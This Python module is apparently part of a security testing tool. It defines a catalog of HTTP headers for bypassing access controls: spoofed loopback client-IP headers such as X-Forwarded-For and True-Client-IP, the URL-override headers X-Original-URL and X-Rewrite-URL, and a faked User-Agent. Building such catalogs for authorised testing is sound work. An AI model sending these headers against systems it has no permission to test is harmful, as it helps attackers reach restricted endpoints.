# SPDX-FileCopyrightText: 2025 Theori Inc.
# SPDX-License-Identifier: AGPL-3.0-or-later

"""Built-in catalog of access-control bypass headers."""

from __future__ import annotations

from typing import NamedTuple

LOOPBACK = "127.0.0.1"
SPOOF_USER_AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36"
)


class BypassHeader(NamedTuple):
    name: str
    value: str


# Headers that reverse proxies, CDNs and load balancers commonly trust for the
# client address or the internal route. Each one is sent on its own request.
BYPASS_HEADERS: tuple[BypassHeader, ...] = (
    BypassHeader("X-Forwarded-For", LOOPBACK),
    BypassHeader("Client-IP", LOOPBACK),
    BypassHeader("Cluster-Client-IP", LOOPBACK),
    BypassHeader("Connection", "keep-alive"),
    BypassHeader("Content-Length", "0"),
    BypassHeader("Forwarded-For", LOOPBACK),
    BypassHeader("Host", "example.com"),
    BypassHeader("Referer", "https://example.com"),
    BypassHeader("True-Client-IP", LOOPBACK),
    BypassHeader("User-Agent", SPOOF_USER_AGENT),
    BypassHeader("X-Custom-IP-Authorization", LOOPBACK),
    BypassHeader("X-Forwarded", LOOPBACK),
    BypassHeader("X-Forwarded-Port", "443"),
    BypassHeader("X-Original-URL", "/original-url"),
    BypassHeader("X-Originating-IP", LOOPBACK),
    BypassHeader("X-ProxyUser-Ip", LOOPBACK),
    BypassHeader("X-Remote-Addr", LOOPBACK),
    BypassHeader("X-Remote-IP", LOOPBACK),
    BypassHeader("X-Rewrite-URL", "/rewrite-url"),
)


__all__ = ["BYPASS_HEADERS", "BypassHeader"]
